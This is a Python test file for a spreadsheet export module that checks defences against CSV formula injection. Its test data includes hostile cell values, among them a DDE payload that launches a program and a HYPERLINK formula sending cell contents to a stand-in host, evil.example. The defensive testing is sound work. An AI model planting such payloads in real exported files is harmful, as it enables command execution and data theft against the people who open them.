"""Cells and lines of a table that a spreadsheet opens."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from screening.takeout import spreadsheet

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\tplain",
    "\rplain",
    "\n=1+1",
    "  =1+1",
    '"=1+1',
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    '=HYPERLINK("http://evil.example?x="&A1,"x")',
    "=",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_would_begin_a_formula_gets_an_apostrophe(text: str) -> None:
    safe = str(spreadsheet.cell(text))
    assert safe[0] == "'"
    assert safe.replace("'", "") == text.replace("'", "")


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("Cole;=1+1", "Cole;'=1+1"),  # where a semicolon parts the cells, this would be one of its own
        ("a\n=1+1", "a\n'=1+1"),
        ("a\t@x", "a\t'@x"),
    ],
)
def test_what_another_program_takes_for_a_new_cell_begins_no_formula(text: str, safe: str) -> None:
    assert spreadsheet.cell(text) == safe


@pytest.mark.parametrize(
    "text", ["", "Anne-Marie O'Neill", "a=b", "1 - 2", "\u22123.1", "{{7*7}}", "<b>x</b>", "a, -b", "'quoted"]
)
def test_any_other_text_stays_as_it_is(text: str) -> None:
    assert spreadsheet.cell(text) == text


def test_numbers_stay_numbers_also_below_zero() -> None:
    assert list(spreadsheet.lines([[-5, Decimal("-2.5"), 3.5, None, "-5"]])) == ['-5,-2.5,3.5,"","\'-5"\r\n']


def test_separators_quotes_and_breaks_stay_inside_their_cell() -> None:
    row = [
        'a"b',
        "a,b",
        "a;b",
        "a\nb",
        "a\r\nb",
        "sep=;",
        "\u0645\u0631\u062d\u0628\u0627",
        "\u810a\u690e",
        "\U0001f9b4",
    ]
    [line] = spreadsheet.lines([row])
    assert next(csv.reader(io.StringIO(line, newline=""))) == row


def test_a_line_is_made_when_it_is_asked_for() -> None:
    def rows():  # type: ignore[no-untyped-def]
        yield ["first"]
        raise AssertionError("read ahead")

    assert next(spreadsheet.lines(rows())) == '"first"\r\n'
